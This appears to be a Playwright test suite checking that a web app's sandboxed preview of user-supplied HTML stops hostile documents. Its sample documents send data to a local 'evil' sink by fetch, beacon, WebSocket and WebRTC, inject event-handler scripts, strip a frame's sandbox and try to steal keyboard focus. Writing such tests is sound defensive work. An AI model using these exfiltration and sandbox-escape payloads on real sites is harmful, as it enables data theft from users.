import assert from 'node:assert/strict'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { describe, it } from 'node:test'
import type { Locator } from 'playwright-core'
import { box, heading, open, preview } from '../support/browser.ts'
import { call } from '../support/server.ts'

/** A server that notes every request which reaches it, and every packet to the port of its number. */
async function startSink() {
  const hits: string[] = []
  const server = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*')
    response.end('hit')
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  const port = typeof address === 'object' && address ? address.port : 0
  const packets = createSocket('udp4')
  packets.on('message', (message) => hits.push(`packet of ${message.length} bytes`))
  packets.bind(port, '127.0.0.1')
  await once(packets, 'listening')
  return {
    hits,
    port,
    url: `http://127.0.0.1:${port}`,
    async [Symbol.asyncDispose]() {
      packets.close()
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

const fingerprint = Array(32).fill('AA').join(':')

/** A script that connects from browser to browser, with the sink as a helper and as the other end. */
function connect(port: number, inside = 'window'): string {
  return `(async () => {
    const peer = new ${inside}.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    await peer.setRemoteDescription({ type: 'answer', sdp: ['v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0',
      'a=group:BUNDLE 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
      'a=ice-ufrag:STOLEN', 'a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa', 'a=fingerprint:sha-256 ${fingerprint}',
      'a=setup:active', 'a=mid:0', 'a=sctp-port:5000', 'a=candidate:1 1 udp 2113937151 127.0.0.1 ${port} typ host', ''].join('\\r\\n') })
  })()`
}

/** Documents that try to connect from browser to browser, each in another way. */
function peers(port: number): Record<string, string> {
  const quoted = connect(port).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  const inner = `<iframe srcdoc="<script>${quoted}</script>"></iframe>`
  const written = JSON.stringify(inner).replaceAll('/', '\\/')
  const say = `<script>addEventListener('load', () => setTimeout(() => document.title = 'over', 500))</script>`
  return {
    'by itself': `<!doctype html><h1>Peer</h1><script>${connect(port)}</script>${say}`,
    'by a frame of its HTML': `<h1>Peer</h1>${inner}${say}`,
    'by a frame that it makes': `<h1>Peer</h1><script>
      const frame = document.createElement('iframe'); document.body.append(frame)
      try { ${connect(port, 'frame.contentWindow')}.catch(() => {}) } catch {}
      document.body.insertAdjacentHTML('beforeend', ${written})</script>${say}`,
    'by a frame in a shadow root': `<h1>Peer</h1><div></div><script>
      document.querySelector('div').attachShadow({ mode: 'closed' }).innerHTML = ${written}</script>${say}`,
    'by a frame in an open shadow root of its HTML': `<h1>Peer</h1><div><template shadowrootmode="open">${inner}</template></div>${say}`,
    'by a frame that it frees': `<h1>Peer</h1><iframe sandbox=""></iframe><script>
      const frame = document.querySelector('iframe'); frame.removeAttribute('sandbox')
      frame.srcdoc = ${JSON.stringify(`<script>${connect(port)}</script>`).replaceAll('</', '<\\/')}</script>${say}`,
  }
}

/** Waits until a field of the document has a text, since its frame is told of keys on its own time. */
async function waitForValue(input: Locator, text: string): Promise<void> {
  await input.evaluate(
    (field, wanted) =>
      new Promise<void>((resolve) => {
        setInterval(() => {
          if (field instanceof HTMLInputElement && field.value === wanted) resolve()
        }, 20)
      }),
    text,
  )
}

describe('a document that tries to get out', () => {
  it('closes a document off from the app and from the network', async () => {
    await using sink = await startSink()
    const { url: evil, hits } = sink
    await using test = await open()
    const { page, server } = test
    const { session_id } = await call(server.url, '/api/sessions', 'POST')
    const html = `<!doctype html><title>Evil</title><h1>Evil</h1><p id="log"></p>
      <img src="${evil}/img"><link rel="stylesheet" href="${evil}/css"><iframe src="${evil}/frame"></iframe>
      <style>@font-face { font-family: x; src: url(${evil}/font) } body { font-family: x; background: url(${evil}/bg) }</style>
      <script>
        const log = []
        try { parent.document.title = 'taken' } catch (error) { log.push(error.name) }
        try { localStorage.x = 1 } catch (error) { log.push(error.name) }
        fetch('${evil}/fetch').catch(() => log.push('no fetch'))
        fetch('${server.url}/api/sessions', { method: 'POST', mode: 'no-cors' }).catch(() => log.push('no api'))
        new Image().src = '${evil}/image'
        navigator.sendBeacon('${evil}/beacon')
        try { new WebSocket('${evil.replace('http', 'ws')}') } catch { }
        try { open('${evil}/popup') } catch { }
        setTimeout(() => { document.getElementById('log').textContent = log.join(' ') + ' done'; location = '${evil}/self' }, 300)
      </script>`
    await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html })
    const before = (await call(server.url, '/api/sessions?limit=200')).sessions.length
    // The document's last act is to send its own frame elsewhere; the app's policy stops that.
    const stopped = page.waitForEvent(
      'console',
      (message) => /frame-src/.test(message.text()) && message.text().includes(evil),
    )
    await page.goto(`${server.url}/s/${session_id}`)
    await stopped
    // It is brought back, and after some times without its scripts.
    await page.locator('.frames iframe[sandbox=""]').waitFor()
    await heading(page, 'Evil').waitFor()
    assert.equal(await preview(page).locator('#log').textContent(), '')
    assert.deepEqual(hits, [])
    assert.match(await page.title(), /^Evil/)
    assert.equal((await call(server.url, '/api/sessions?limit=200')).sessions.length, before)
    await page.getByRole('tab', { name: 'Versions' }).click()
    await page.getByText('Imported').first().waitFor()
  })

  it('runs nothing and goes nowhere when its scripts are stopped', async () => {
    await using sink = await startSink()
    await using test = await open()
    const { page, server } = test
    const { session_id } = await call(server.url, '/api/sessions', 'POST')
    const { url: evil } = sink
    const send = `document.title = 'ran'; fetch('${evil}/fetch'); ${connect(sink.port)}`
    const quoted = send.replaceAll('"', '&quot;')
    const html = `<!doctype html><title>Still</title><h1>Still</h1><script>${send}</script>
      <script nonce="">${send}</script><img src="x" onerror="${quoted}"><svg onload="${quoted}"></svg>
      <details open ontoggle="${quoted}"></details><iframe srcdoc="<script>${quoted}</script>"></iframe>
      <iframe src="javascript:${quoted}"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
      <img src="${evil}/img"><link rel="stylesheet" href="${evil}/css"><link rel="prefetch" href="${evil}/prefetch">
      <style>@import url(${evil}/import); body { background: url(${evil}/bg) }</style>
      <form action="${evil}/form"><button>Send</button></form>
      <a href="javascript:${quoted}">Link</a><a ping="${evil}/ping" href="#top">Ping</a>`
    const { id } = await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html })
    await page.goto(server.url)
    await page.evaluate((key) => localStorage.setItem(key, 'yes'), `still:${id}`)
    await page.goto(`${server.url}/s/${session_id}`)
    await page.locator('.frames iframe:not(.waiting)[src*="scripts=off"]').waitFor()
    await heading(page, 'Still').waitFor()
    for (const name of ['Link', 'Ping'])
      await preview(page).getByText(name, { exact: true }).click()
    await preview(page).getByRole('button', { name: 'Send' }).click()
    assert.equal(await heading(page, 'Still').evaluate(() => document.title), 'Still')
    const nonces = await preview(page)
      .locator('script')
      .evaluateAll((scripts) => scripts.map((script) => script.nonce))
    assert.deepEqual(nonces, ['', ''], 'the bridge is gone, with its nonce')
    assert.deepEqual(sink.hits, [])

    // A page that leaves by itself is stopped for good.
    const leaving = `<title>Leaving</title><h1>Leaving</h1><meta http-equiv="refresh" content="0; url=${evil}/refresh">`
    await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html: leaving })
    await page.goto(`${server.url}/s/${session_id}`)
    await page.locator('.frames iframe[sandbox=""]').waitFor()
    await heading(page, 'Leaving').waitFor()
    assert.deepEqual(sink.hits, [])
  })

  it('connects to no other browser', async () => {
    await using sink = await startSink()
    await using test = await open()
    const { page, server } = test
    // Without the walls, it does: else this would prove nothing. Late packets must not count below.
    await using control = await startSink()
    await using bare = createServer((_, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(peers(control.port)['by itself'])
    })
    bare.listen(0, '127.0.0.1')
    await once(bare, 'listening')
    const address = bare.address()
    const bareUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`
    const outside = await page.context().newPage()
    await outside.goto(bareUrl)
    while (control.hits.length === 0) await outside.waitForTimeout(50)
    await outside.close()

    for (const [way, html] of Object.entries(peers(sink.port))) {
      const { session_id } = await call(server.url, '/api/sessions', 'POST')
      await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html })
      await page.goto(`${server.url}/s/${session_id}`)
      await heading(page, 'Peer').waitFor()
      const frame = preview(page).locator('html')
      await frame.evaluate(
        () =>
          new Promise((resolve) =>
            document.title === 'over'
              ? resolve(0)
              : setInterval(() => document.title === 'over' && resolve(0), 50),
          ),
      )
      assert.deepEqual(sink.hits, [], way)
    }
    const expected = /RTCPeerConnection is not a constructor|of null/
    assert.deepEqual(
      test.errors.splice(0).filter((message) => !expected.test(message)),
      [],
    )
  })

  it('gets nothing of what is typed into the app, and loses its scripts when it goes on trying', async () => {
    await using test = await open()
    const { page, server } = test
    const { session_id } = await call(server.url, '/api/sessions', 'POST')
    const html = `<h1>Greedy</h1><input><script>
      const grab = () => { document.querySelector('input').focus() }
      onmessage = grab
      setInterval(() => { if (document.title === 'go') grab() }, 5)
    </script>`
    await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html })
    await page.goto(`${server.url}/s/${session_id}`)
    await heading(page, 'Greedy').waitFor()
    const input = preview(page).locator('input')
    // Who clicks into it may type into it, and who goes there by keys.
    await input.click()
    await preview(page).locator('input:focus').waitFor()
    await page.keyboard.type('mine')
    await waitForValue(input, 'mine')
    await page.getByRole('button', { name: 'Full screen' }).focus()
    await page.keyboard.press('Tab')
    await preview(page).locator('input:focus').waitFor()
    await page.keyboard.type('yours')
    await waitForValue(input, 'yours')
    await box(page).click()
    await input.evaluate(() => document.querySelector('input')?.focus())
    await page.waitForFunction(
      () => document.activeElement?.tagName === 'TEXTAREA' && document.hasFocus(),
    )
    await box(page).pressSequentially('one')
    assert.equal(await input.inputValue(), 'yours')
    await input.evaluate(() => (document.title = 'go'))
    await page.getByText('its scripts were stopped').waitFor()
    await page.locator('.frames iframe:not(.waiting)[src*="scripts=off"]').waitFor()
    await box(page).pressSequentially(' two')
    assert.equal(await box(page).inputValue(), 'one two')
    await page.getByRole('button', { name: 'Run the document’s scripts' }).click()
    await page.locator('.frames iframe:not(.waiting):not([src*="scripts=off"])').waitFor()
  })

  it('does not hold up the app by an endless loop', async () => {
    await using test = await open()
    const { page, server } = test
    const { session_id } = await call(server.url, '/api/sessions', 'POST')
    const html = '<h1>Loop</h1><script>setTimeout(() => { for (;;) {} })</script>'
    await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html })
    await page.goto(`${server.url}/s/${session_id}`)
    await page.locator('.frames iframe').waitFor()
    await page.getByRole('tab', { name: 'Versions' }).click()
    await page.getByText('Imported').first().waitFor()
    await page.getByRole('tab', { name: 'Preview' }).click()
    await page.getByRole('button', { name: 'Run the document’s scripts' }).click()
    await heading(page, 'Loop').waitFor()
  })

  it('is shown in no page of another site', async () => {
    await using test = await open()
    const { page, server } = test
    const { session_id } = await call(server.url, '/api/sessions', 'POST')
    const html = `<h1>Mine</h1><script>parent.postMessage(document.body.innerText, '*')</script>`
    const { id } = await call(server.url, `/api/sessions/${session_id}/documents`, 'POST', { html })
    await using foreign = createServer((_, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(
        `<script>heard = []; onmessage = ({ data }) => heard.push(data)</script><iframe src="${server.url}/preview/${id}" onload="document.title = 'loaded'"></iframe>`,
      )
    })
    foreign.listen(0, '127.0.0.1')
    await once(foreign, 'listening')
    const address = foreign.address()
    await page.goto(`http://localhost:${typeof address === 'object' && address ? address.port : 0}`)
    await page.waitForFunction(() => document.title === 'loaded')
    assert.deepEqual(await page.evaluate('heard'), [])
  })
})
